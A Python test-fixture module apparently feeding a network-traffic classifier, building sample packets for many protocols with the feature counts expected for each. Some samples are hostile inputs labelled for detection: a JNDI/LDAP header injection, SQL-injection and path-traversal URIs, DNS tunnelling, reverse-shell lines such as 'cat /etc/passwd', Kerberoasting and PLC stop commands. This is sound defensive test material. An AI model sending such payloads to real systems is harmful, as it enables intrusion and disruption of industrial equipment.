"""One message of each kind, byte by byte after its standard, and the columns that it fills."""

from __future__ import annotations

import struct
from typing import NamedTuple

TCP, UDP, ICMP = 6, 17, 1
CLIENT_PORT = 50_000


class Message(NamedTuple):
    """A payload, how it travels, and the columns of its protocol that are not 0 behind it."""

    name: str
    data: bytes
    port: int  # of the server
    columns: dict[str, float]
    protocol: int = TCP
    forward: bool = True  # from the client to the server
    known: bool = True  # False: its direction gets one more unknown packet


def big(number: int, size: int = 2) -> bytes:
    return number.to_bytes(size, "big")


# DNS, RFC 1035, 4.1.


def dns(
    *names: bytes, kind: int = 1, flags: int = 0x0100, answers: int = 0, questions: int = 1
) -> bytes:
    head = struct.pack(">HHHHHH", 7, flags, questions, answers, 0, 0)
    name = b"".join(bytes([len(label)]) + label for label in names) + b"\0"
    return head + name + struct.pack(">HH", kind, 1)


EXAMPLE = dns(b"www", b"example", b"com")
NAMED = {  # of the name www.example.com: 13 letters, of which w e x a m p l c o
    **{"dns_name_length": 16, "dns_label_length": 7, "dns_labels": 3},
    **{"dns_name_distinct": 9 / 13, "usual_port": 1},
}
TUNNEL = dns(b"0123456789abcdef" * 3, b"t", b"io", kind=16)
DNS = [
    Message("dns query", EXAMPLE, 53, {**NAMED, "dns_queries": 1, "dns_address_types": 1}, UDP),
    Message(
        "dns tunnel",
        TUNNEL,
        53,
        {
            **{"dns_queries": 1, "dns_text_types": 1, "usual_port": 1, "dns_name_length": 54},
            **{"dns_label_length": 48, "dns_labels": 3, "dns_name_digits": 30 / 51},
            "dns_name_distinct": 19 / 51,
        },
        UDP,
    ),
    Message(
        "dns answer",
        dns(b"www", b"example", b"com", flags=0x8180, answers=2, kind=15),
        53,
        {**NAMED, "dns_answers": 1, "dns_answer_records": 2, "dns_other_types": 1},
        UDP,
        False,
    ),
    Message(
        "no such name",
        dns(b"www", b"example", b"com", flags=0x8183, kind=28),
        53,
        {**NAMED, "dns_answers": 1, "dns_no_such_name": 1, "dns_address_types": 1},
        UDP,
        False,
    ),
    Message(
        "server failure",
        dns(b"www", b"example", b"com", flags=0x8182),
        5355,
        {**NAMED, "dns_answers": 1, "dns_failures": 1, "dns_address_types": 1},
        UDP,
        False,
    ),
    Message(
        "dns over tcp",
        big(len(EXAMPLE)) + EXAMPLE,
        53,
        {**NAMED, "dns_queries": 1, "dns_address_types": 1},
    ),
    Message(
        "a question that points at itself",
        struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + bytes(4),
        53,
        {"dns_queries": 1, "usual_port": 1},
        UDP,
    ),
    Message(
        "a type that nobody asks for",
        dns(b"www", b"example", b"com", kind=24),
        53,
        {**NAMED, "dns_queries": 1, "dns_other_types": 1, "dns_odd_types": 1},
        UDP,
    ),
    Message("no dns: operation 15", EXAMPLE[:2] + b"\x79" + EXAMPLE[3:], 53, {}, UDP, known=False),
]

# HTTP, RFC 9112; SIP, RFC 3261; RTSP, RFC 7826; SSDP, UPnP 1.1.

GET = (
    b"GET /a/../etc/passwd?id=1%27(2)&x=3 HTTP/1.1\r\nHost: 192.0.2.7:8080\r\n"
    b"user-agent: x\r\nAccept: */*\r\n\r\n"
)
GOT = {
    **{"http_gets": 1, "uri_length": 31, "uri_digits": 4 + 1, "uri_escapes": 1, "uri_marks": 2},
    **{"uri_depth": 4, "uri_parameters": 2, "uri_parents": 1, "http_lines": 5},
    **{"http_address_hosts": 1, "http_injections": 1},
}


def status(line: bytes, port: int, columns: dict[str, float], protocol: int = TCP) -> Message:
    return Message(line.decode(), line + b"\r\nA: b\r\n\r\n", port, columns, protocol, False)


CHALLENGE = {"login_refusals": 1, "challenges": 1}  # nothing was given to log in before it
WEB = [
    Message("get", GET, 8080, GOT | {"usual_port": 1}),
    Message(
        "remote management of windows",
        b"POST /wsman HTTP/1.1\r\nUser-Agent: x\r\n\r\n",
        5985,
        {
            **{"http_posts": 1, "uri_length": 6, "uri_depth": 1, "http_lines": 3},
            **{"wsman_requests": 1, "usual_port": 1},
        },
    ),
    Message("get elsewhere", GET, 4444, GOT | {"usual_port": -1}),
    Message(
        "injection in a target, escaped twice",
        b"GET /x?id=1%2527%20or%201=1 HTTP/1.1\r\nUser-Agent: x\r\n\r\n",
        80,
        {
            **{"http_gets": 1, "uri_length": 23, "uri_digits": 11, "uri_escapes": 3},
            **{"uri_depth": 1, "uri_parameters": 2, "http_lines": 3, "usual_port": 1},
            "http_injections": 1,
        },
    ),
    Message(
        "injection in a header line",
        b"GET / HTTP/1.1\r\nUser-Agent: ${JNDI:ldap://192.0.2.1/a}\r\n\r\n",
        80,
        {
            **{"http_gets": 1, "uri_length": 1, "uri_depth": 1, "http_lines": 3},
            **{"usual_port": 1, "http_injections": 1},
        },
    ),
    Message(
        "what may stand in a header line, but in no target",
        b"GET / HTTP/1.1\r\nUser-Agent: x\r\nX: <script> ../../ ' or 1\r\n\r\n",
        80,
        {
            **{"http_gets": 1, "uri_length": 1, "uri_depth": 1, "http_lines": 4},
            "usual_port": 1,
        },
    ),
    Message(
        "post without agent",
        b"POST /x HTTP/1.1\r\nHost: 1.2.3.example\r\n\r\na=b",
        80,
        {
            **{"http_posts": 1, "uri_length": 2, "uri_depth": 1, "http_lines": 3},
            **{"http_without_agent": 1, "usual_port": 1},
        },
    ),
    Message(
        "host by ipv6",
        b"PROPFIND / HTTP/1.1\r\nHOST: [2001:db8::1]\r\nUser-Agent: y\r\n\r\n",
        80,
        {
            **{"http_other_methods": 1, "uri_length": 1, "uri_depth": 1, "http_lines": 4},
            **{"http_address_hosts": 1, "usual_port": 1},
        },
    ),
    Message(
        "http 0.9",
        b"GET /\r\n",
        80,
        {
            **{"http_gets": 1, "uri_length": 1, "uri_depth": 1, "http_lines": 1},
            **{"http_without_agent": 1, "usual_port": 1},
        },
    ),
    Message("a method in a line of text", b"HELLO world\r\n", 80, {}, known=False),
    Message(
        "a transfer to a port of a service",
        b"PORT 192,168,1,5,3,255\r\n",
        21,
        {"ftp_bounces": 1},
        known=False,
    ),
    Message("a transfer", b"PORT 192,168,1,5,4,0\r\n", 21, {}, known=False),
    status(b"HTTP/1.1 200 OK", 80, {"http_ok": 1, "usual_port": 1}),
    status(b"HTTP/1.0 302 Found", 80, {"http_moved": 1, "usual_port": 1}),
    status(b"HTTP/1.1 401 Go", 81, CHALLENGE | {"http_refused": 1, "usual_port": 1}),
    status(b"HTTP/1.1 404 No", 80, {"http_not_found": 1, "usual_port": 1}),
    status(b"HTTP/2 503 Busy", 9, {"http_errors": 1, "usual_port": -1}),
    status(b"HTTP/1.1 OK", 80, {"usual_port": 1}),
    status(b"SIP/2.0 407 Who", 5060, CHALLENGE | {"replies_refused": 1}, UDP),
    status(b"RTSP/1.0 200 OK", 554, {"replies_fine": 1, "usual_port": 1}),
    Message("sip", b"REGISTER sip:a@b SIP/2.0\r\n\r\n", 5060, {"sip_requests": 1}, UDP),
    Message(
        "rtsp",
        b"GET_PARAMETER rtsp://c/ RTSP/1.0\r\n\r\n",
        554,
        {"sip_requests": 1, "usual_port": 1},
    ),
    Message("ssdp", b"M-SEARCH * HTTP/1.1\r\n\r\n", 1900, {"ssdp_messages": 1}, UDP),
    Message("ssdp notice", b"NOTIFY * HTTP/1.1\r\n\r\n", 1900, {"ssdp_messages": 1}, UDP),
]

# TLS, RFC 8446, 4.1.2 and 5.1; QUIC, RFC 9000, 17.2; SSH, RFC 4253.


def extension(kind: int, content: bytes) -> bytes:
    return struct.pack(">HH", kind, len(content)) + content


def client_hello(ciphers: list[int], extensions: bytes, minor: int = 3) -> bytes:
    suites = b"".join(map(big, ciphers))
    body = bytes([3, minor]) + bytes(32) + b"\x20" + bytes(32)
    body += big(len(suites)) + suites + b"\x01\x00"
    body += big(len(extensions)) + extensions if extensions else b""
    return record(22, b"\x01" + big(len(body), 3) + body)


def record(kind: int, content: bytes, minor: int = 1) -> bytes:
    return bytes([kind, 3, minor]) + big(len(content)) + content


SERVER_NAME = extension(0, b"\0\x0e\0\0\x0bexample.org")
BROWSER = client_hello(
    [0x2A2A, 0x1301, 0xC02F],
    SERVER_NAME + extension(16, b"\0\x03\x02h2") + extension(43, b"\x02\x03\x04"),
)
SECURE = [
    Message(
        "a browser's hello",
        BROWSER,
        443,
        {
            **{"tls_client_hellos": 1, "tls_version": 4, "tls_ciphers": 3, "tls_grease": 1},
            **{"tls_extensions": 3, "tls_name_length": 11, "tls_protocols": 1, "usual_port": 1},
        },
    ),
    Message(
        "an old client's hello",
        client_hello([0x2F] * 5, b"", minor=1),
        4444,
        {"tls_client_hellos": 1, "tls_version": 1, "tls_ciphers": 5, "usual_port": -1},
    ),
    Message(
        "server hello",
        record(22, b"\x02\0\0\x26\x03\x03" + bytes(36)),
        443,
        {"tls_server_hellos": 1, "usual_port": 1},
        forward=False,
    ),
    Message(
        "encrypted handshake that begins like a hello",
        record(22, b"\x01\x99\x98\x97\x96\x95" + bytes(34), minor=3),
        443,
        {"tls_data_records": 1, "usual_port": 1},
    ),
    Message("alert", record(21, b"\x02\x28"), 443, {"tls_alerts": 1, "usual_port": 1}),
    Message("heartbeat", record(24, b"\x01\x40\0"), 443, {"tls_heartbeats": 1, "usual_port": 1}),
    Message("tls data", record(23, bytes(40)), 993, {"tls_data_records": 1, "usual_port": 1}),
    Message("no record: empty", b"\x17\x03\x03\0\0\0", 443, {}, known=False),
    Message(
        "quic",
        b"\xc3\0\0\0\x01\x08" + bytes(20),
        443,
        {"quic_initials": 1, "usual_port": 1},
        UDP,
    ),
    Message(
        "quic 2",
        b"\xd3\x6b\x33\x43\xcf" + bytes(20),
        9,
        {"quic_initials": 1, "usual_port": -1},
        UDP,
    ),
    Message("no quic", b"\xc3\0\0\0\x09" + bytes(20), 443, {}, UDP, known=False),
    Message("ssh", b"SSH-2.0-Go\r\n", 22, {"ssh_banners": 1, "usual_port": 1}),
    Message("ssh elsewhere", b"SSH-2.0-x\r\n", 8022, {"ssh_banners": 1, "usual_port": -1}),
    Message(
        "ssh keys",
        b"\0\0\x04\x1c\x0a\x14" + bytes(40),
        22,
        {"ssh_key_exchanges": 1, "usual_port": 1},
    ),
]

# Lines: FTP, RFC 959; SMTP, RFC 5321; POP3, RFC 1939; IMAP, RFC 9051; Telnet, RFC 854.
LINES = [
    Message("user", b"USER root\r\n", 21, {"logins": 1}),
    Message("pass", b"pass secret\r\n", 110, {"logins": 1}),
    Message("auth", b"AUTH LOGIN\r\n", 25, {"logins": 1}),
    Message("ready", b"220-welcome\r\n", 21, {"replies_fine": 1}, forward=False),
    Message(
        "not logged in",
        b"530 Login incorrect.\r\n",
        21,
        {"replies_refused": 1, "login_refusals": 1},
        forward=False,
    ),
    Message("no mailbox", b"550 No\r\n", 25, {"replies_refused": 1}, forward=False),
    Message("pop ok", b"+OK ready\r\n", 110, {"replies_fine": 1}, forward=False),
    Message(
        "pop err",
        b"-ERR no\r\n",
        110,
        {"replies_refused": 1, "login_refusals": 1},
        forward=False,
    ),
    Message(
        "redis err",
        b"-WRONGPASS invalid\r\n",
        6379,
        {"replies_refused": 1, "login_refusals": 1},
        forward=False,
    ),
    *(
        Message(f"a shell: {line!r}", line, 4444, {"shell_lines": 1}, known=False)
        for line in (
            b"whoami\n",
            b"cat /etc/passwd\r\n",
            b"uid=0(root) gid=0(root)\n",
            b"Microsoft Windows [Version 10.0]\r\n(c) Microsoft\r\n",
            b"\r\nC:\\WINNT\\system32>",
            b"done\nroot@box:~# ",
        )
    ),
    *(
        Message(f"no shell: {line!r}", line, 4444, {}, known=False)
        for line in (
            b"whoami",
            b"cats\n",
            b"ls\nls\n",
            b"a > ",
            b"C:\\x\n>",
            b"5 $ ",
            b"ls " + b"a" * 126 + b"\n",
        )
    ),
    Message("imap", b"* OK ready\r\n", 143, {}, forward=False),
    Message("a year", b"2026-11-30\r\n", 13, {}, forward=False, known=False),
    Message("no code of a reply", b"999 lines\r\n", 21, {}, forward=False, known=False),
    Message(
        "a wrong password over telnet",
        b"\r\nLogin Incorrect\r\nlogin: ",
        2323,
        {"telnet_refusals": 1},
        forward=False,
        known=False,
    ),
    Message("a password over telnet", b"denied\r\n", 23, {}, known=False),
    Message("telnet", b"\xff\xfd\x18\xff\xfd\x20", 23, {"telnet_options": 1}, forward=False),
]

# [MS-CIFS] 2.2.3.1, [MS-SMB2] 2.2.1, C706 12.6.


def smb1(command: int, status: int = 0, body: bytes = b"", flags: int = 0x98) -> bytes:
    head = b"\xffSMB" + struct.pack("<BIBH", command, status, flags, 0x4801) + bytes(20)
    return b"\0" + big(len(head + body), 3) + head + body


SESSION_SETUP = b"\x0f" + bytes(28) + b"\x0e\0"  # 15 words, the last is the call


def smb2(command: int, status: int = 0, flags: int = 0, body: bytes = b"") -> bytes:
    head = b"\xfeSMB" + struct.pack("<HHIHHI", 64, 1, status, command, 1, flags) + bytes(44)
    return b"\0" + big(len(head + body), 3) + head + body


def rpc(kind: int, body: bytes = b"", verifier: int = 0) -> bytes:
    return struct.pack("<BBBBIHHI", 5, 0, kind, 3, 0x10, 16 + len(body), verifier, 1) + body


def call(number: int) -> bytes:
    return rpc(0, struct.pack("<IHH", 0, 0, number))


def bind(interface: int, last: bytes = bytes(4)) -> bytes:
    context = struct.pack("<HBBI", 0, 1, 0, interface) + bytes(8) + last
    return rpc(11, struct.pack("<HHIBBH", 5840, 5840, 0, 1, 0, 0) + context)


NTLM = b"NTLMSSP\0" + struct.pack("<II", 1, 0) + bytes(24)
WINDOWS = [
    Message("smb1 session", smb1(0x73, body=NTLM), 445, {
        "smb1_messages": 1, "smb_sessions": 1, "ntlm_messages": 1}),
    Message("smb1 logon failure", smb1(0x73, 0xC000006D), 445, {
        "smb1_messages": 1, "smb_sessions": 1, "smb_failures": 1, "smb_logon_failures": 1}),
    Message("smb1 tree", smb1(0x75), 139, {"smb1_messages": 1, "smb_trees": 1}),
    Message("smb1 open", smb1(0xA2), 445, {"smb1_messages": 1, "smb_opens": 1}),
    Message("smb1 read", smb1(0x2E), 445, {"smb1_messages": 1, "smb_reads": 1}),
    Message("smb1 write", smb1(0x2F), 445, {"smb1_messages": 1, "smb_writes": 1}),
    Message("smb1 call", smb1(0x25, body=bind(0x367ABB81)), 445, {
        "smb1_messages": 1, "smb_calls": 1, "rpc_binds": 1, "rpc_admin_binds": 1}),
    Message("smb1 call that no client makes", smb1(0x32, 0, SESSION_SETUP, 0x18), 445, {
        "smb1_messages": 1, "smb_calls": 1, "smb_reserved_calls": 1}),
    Message("smb1 continued call", smb1(0x33, 0, b"", 0x18), 445, {
        "smb1_messages": 1, "smb_calls": 1, "smb_reserved_calls": 1}),
    Message("smb2 session", smb2(1, body=NTLM + NTLM), 445, {
        "smb2_messages": 1, "smb_sessions": 1, "ntlm_messages": 2}),
    Message("smb2 more to come", smb2(1, 0xC0000016, 1), 445, {
        "smb2_messages": 1, "smb_sessions": 1}, forward=False),
    Message("smb2 wrong password", smb2(1, 0xC000006A, 1), 445, {
        "smb2_messages": 1, "smb_sessions": 1, "smb_failures": 1, "smb_logon_failures": 1,
        }, forward=False),
    Message("smb2 tree refused", smb2(3, 0xC0000022, 1), 445, {
        "smb2_messages": 1, "smb_trees": 1, "smb_failures": 1}, forward=False),
    Message("smb2 open", smb2(5), 445, {"smb2_messages": 1, "smb_opens": 1}),
    Message("smb2 read", smb2(8), 445, {"smb2_messages": 1, "smb_reads": 1}),
    Message("smb2 write", smb2(9, body=bind(0x12345778)), 445, {
        "smb2_messages": 1, "smb_writes": 1, "rpc_binds": 1, "rpc_directory_binds": 1}),
    Message("smb2 call", smb2(11, body=rpc(0)), 445, {
        "smb2_messages": 1, "smb_calls": 1, "rpc_requests": 1}),
    Message("smb2 channel sequence is no status", smb2(5, 0xC000006D, 0), 445, {
        "smb2_messages": 1, "smb_opens": 1}),
    Message("encrypted smb", b"\0\0\0\x34\xfdSMB" + bytes(48), 445, {}),
    Message("rpc request", rpc(0), 135, {"rpc_requests": 1}),
    Message("rpc fault", rpc(3), 135, {"rpc_faults": 1}, forward=False),
    Message("rpc bind", bind(0xE3514235), 49_155, {"rpc_binds": 1, "rpc_directory_binds": 1,
        "rpc_interface": 1}),
    Message("rpc answer that denies", rpc(2, bytes(16) + b"\x22\0\0\xc0"), 49_155, {
        "rpc_refused_calls": 1}, forward=False),
    Message("rpc answer with a verifier", rpc(2, bytes(16) + b"\5\0\0\0", 8), 49_155, {},
            forward=False),
    Message("rpc fault that denies", rpc(3, bytes(8) + b"\5\0\0\0"), 135, {
        "rpc_faults": 1, "rpc_refused_calls": 1}, forward=False),
    Message("rpc bind of another", bind(0xE1AF8308), 135, {"rpc_binds": 1}),
]  # fmt: skip


# BER, X.690: RFC 4120, RFC 4511, RFC 1157.


def ber(tag: int, *parts: bytes) -> bytes:
    body = b"".join(parts)
    size = bytes([len(body)]) if len(body) < 128 else b"\x82" + big(len(body))
    return bytes([tag]) + size + body


def integer(number: int, tag: int = 2) -> bytes:
    return ber(tag, bytes([number]))


def ticket_request(tag: int, encryptions: tuple[int, ...], padding: int = 0) -> bytes:
    etypes = ber(0xA8, ber(0x30, *map(integer, encryptions)))
    body = ber(0xA4, ber(0x30, ber(0xA0, b"\x03\x05\0\x40\x80\0\0"), etypes))
    data = ber(0xA3, ber(0x30, bytes(padding)))
    return ber(tag, ber(0x30, ber(0xA1, integer(5)), ber(0xA2, integer(10)), data, body))


def kerberos_error(code: int) -> bytes:
    times = ber(0xA4, ber(0x18, b"20261130104500Z")), ber(0xA5, integer(7))
    head = ber(0xA0, integer(5)), ber(0xA1, integer(30))
    return ber(0x7E, ber(0x30, *head, *times, ber(0xA6, integer(code))))


def ldap(tag: int, body: bytes) -> bytes:
    return ber(0x30, integer(1), ber(tag, body))


def result(code: int) -> bytes:
    return integer(code, 10) + b"\x04\0\x04\0"


AS_REQ = ticket_request(0x6A, (18, 17, 23))
TGS_REQ = ticket_request(0x6C, (23, 18), 300)
DIRECTORY = [
    Message("ticket request", AS_REQ, 88, {"kerberos_requests": 1}, UDP),
    Message(
        "roasting", big(len(TGS_REQ), 4) + TGS_REQ, 88, {"kerberos_requests": 1, "kerberos_rc4": 1}
    ),
    Message("kerberos answer", ber(0x6B, bytes(30)), 88, {}, UDP, forward=False),
    Message(
        "wrong password",
        kerberos_error(24),
        88,
        {"kerberos_errors": 1, "kerberos_logon_errors": 1},
        UDP,
        False,
    ),
    Message(
        "pre-authentication wanted", kerberos_error(25), 88, {"kerberos_errors": 1}, UDP, False
    ),
    Message("clocks apart", kerberos_error(37), 88, {"kerberos_errors": 1}, UDP, False),
    Message("bind", ldap(0x60, integer(3) + b"\x04\x02cn\x80\x02pw"), 389, {"ldap_binds": 1}),
    Message("search", ldap(0x63, bytes(200)), 3268, {"ldap_searches": 1}),
    Message("search over udp", ldap(0x63, bytes(40)), 389, {"ldap_searches": 1}, UDP),
    Message("bound", ldap(0x61, result(0)), 389, {}, forward=False),
    Message(
        "invalid credentials",
        ldap(0x61, result(49)),
        389,
        {"ldap_failures": 1, "service_refusals": 1},
        forward=False,
    ),
    Message("sasl goes on", ldap(0x61, result(14)), 389, {}, forward=False),
    Message("no such object", ldap(0x65, result(32)), 389, {"ldap_failures": 1}, forward=False),
    Message("no ldap", b"\x30\x06\x04\x01\x01\x60\0\0\0", 389, {}, known=False),
]

# X.224 behind TPKT, RFC 1006; [MS-RDPBCGR] 2.2.1.1; S7comm.


def tpkt(content: bytes) -> bytes:
    return b"\x03\0" + big(4 + len(content)) + content


def s7(kind: int, function: int) -> bytes:
    error = bytes(2) if kind in (2, 3) else b""
    head = b"\x32" + bytes([kind]) + bytes(4) + b"\0\x02\0\0" + error
    return tpkt(b"\x02\xf0\x80" + head + bytes([function, 0]))


def modbus(function: int, rest: bytes = bytes(4)) -> bytes:
    return struct.pack(">HHHBB", 1, 0, 2 + len(rest), 1, function) + rest


def dnp3(function: int, transport: int = 0xC0) -> bytes:
    return b"\x05\x64\x0b\xc4\x01\0\x02\0\xab\xcd" + bytes([transport, 0xC1, function]) + bytes(5)


def iec104(kind: int, control: int = 0) -> bytes:
    return b"\x68\x0e" + bytes([control, 0, 0, 0, kind]) + bytes(9)


def ethernet_ip(command: int) -> bytes:
    return struct.pack("<HHII8sI", command, 0, 0, 0, bytes(8), 0)


INDUSTRY = [
    Message("rdp", tpkt(b"\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0"), 3389, {"rdp_requests": 1}),
    Message("s7 connects", tpkt(b"\x11\xe0\0\0\0\x01\0\xc0\x01\x0a\xc1\x02\x01\0\xc2\x02\x01\x02"),
            102, {}),
    Message("s7 read", s7(1, 4), 102, {"industrial_reads": 1}),
    Message("s7 write", s7(1, 5), 102, {"industrial_writes": 1}),
    Message("s7 write done", s7(3, 5), 102, {"industrial_writes": 1}, forward=False),
    Message("s7 stop", s7(1, 0x29), 102, {"industrial_controls": 1, "industrial_stops": 1}),
    Message("s7 stopped", s7(3, 0x29), 102, {"industrial_controls": 1}, forward=False),
    Message("s7 set up", s7(1, 0xF0), 102, {}),
    Message("s7 user data", s7(7, 0), 102, {"industrial_reads": 1}),
    Message("modbus read", modbus(3), 502, {"industrial_reads": 1}),
    Message("modbus write", modbus(16), 502, {"industrial_writes": 1}),
    Message("modbus diagnosis", modbus(8), 502, {"industrial_controls": 1}),
    Message("modbus listens only", modbus(8, b"\0\4\0\0"), 502, {
        "industrial_controls": 1, "industrial_stops": 1}),
    Message("umas stop", modbus(90, b"\0A\xff\0"), 502, {
        "industrial_controls": 1, "industrial_stops": 1}),
    Message("modbus exception", modbus(0x83, b"\x02"), 502, {"industrial_exceptions": 1},
            forward=False),
    Message("modbus whose number looks like tls", b"\x17\x03" + modbus(3)[2:], 502, {
        "industrial_reads": 1}),
    Message("dnp3 read", dnp3(1), 20000, {"industrial_reads": 1}),
    Message("dnp3 write", dnp3(2), 20000, {"industrial_writes": 1}),
    Message("dnp3 operate", dnp3(4), 20000, {"industrial_controls": 1}),
    Message("dnp3 goes on", dnp3(4, 0x81), 20000, {}),
    Message("dnp3 link", b"\x05\x64\x05\xc9\x01\0\x02\0\xab\xcd" * 2, 20000, {}),
    Message("iec 104 command", iec104(45), 2404, {"industrial_writes": 1}),
    Message("iec 104 interrogation", iec104(100), 2404, {"industrial_controls": 1}),
    Message("iec 104 value", iec104(13), 2404, {"industrial_reads": 1}),
    Message("iec 104 start", b"\x68\x04\x07\0\0\0", 2404, {}),
    Message("ethernet/ip data", ethernet_ip(0x6F), 44818, {"industrial_controls": 1}),
    Message("ethernet/ip identity", ethernet_ip(0x63), 44818, {"industrial_reads": 1}),
    Message("bacnet", b"\x81\x0a\0\x08\x01\0\x10\x08", 47808, {"industrial_reads": 1}, UDP),
    Message("mqtt connect", b"\x10\x0c\0\x04MQTT\x04\x02\0\x3c\0\0", 1883, {"mqtt_connects": 1}),
    Message("mqtt accepted", b"\x20\x02\0\0", 1883, {}, forward=False),
    Message("mqtt refused", b"\x20\x02\0\x05", 1883, {"mqtt_refusals": 1}, forward=False),
    Message("mqtt publish", b"\x30\x05\0\x01ahi", 1883, {"mqtt_publishes": 1}),
    Message("snmp", ber(0x30, integer(1), b"\x04\x06public", ber(0xA0, bytes(20))), 161, {
        "snmp_messages": 1}, UDP),
    Message("snmp trap", ber(0x30, integer(0), b"\x04\x06public", ber(0xA4, bytes(150))), 162, {
        "snmp_messages": 1}, UDP),
    Message("no snmp", ber(0x30, integer(9), bytes(20)), 161, {}, UDP, known=False),
    Message("time", b"\x23" + bytes(47), 123, {"ntp_messages": 1}, UDP),
    Message("monlist", b"\x17\0\x03\x2a" + bytes(4), 123, {"ntp_controls": 1}, UDP),
    Message("no time", bytes(48), 123, {}, UDP, known=False),
    Message("dhcp discover", b"\x01\x01\x06" + bytes(300), 67, {"dhcp_requests": 1}, UDP),
    Message("dhcp offer", b"\x02\x01\x06" + bytes(300), 67, {"dhcp_replies": 1}, UDP,
            forward=False),
]  # fmt: skip

OTHERS = [
    Message("nothing known", b"\x99\x88\x77", 9999, {}, known=False),
    Message("ping", bytes(range(56)), 0, {}, ICMP, known=False),
    Message("one byte", b"\0", 445, {}, known=False),
]
MESSAGES = [*DNS, *WEB, *SECURE, *LINES, *WINDOWS, *DIRECTORY, *INDUSTRY, *OTHERS]
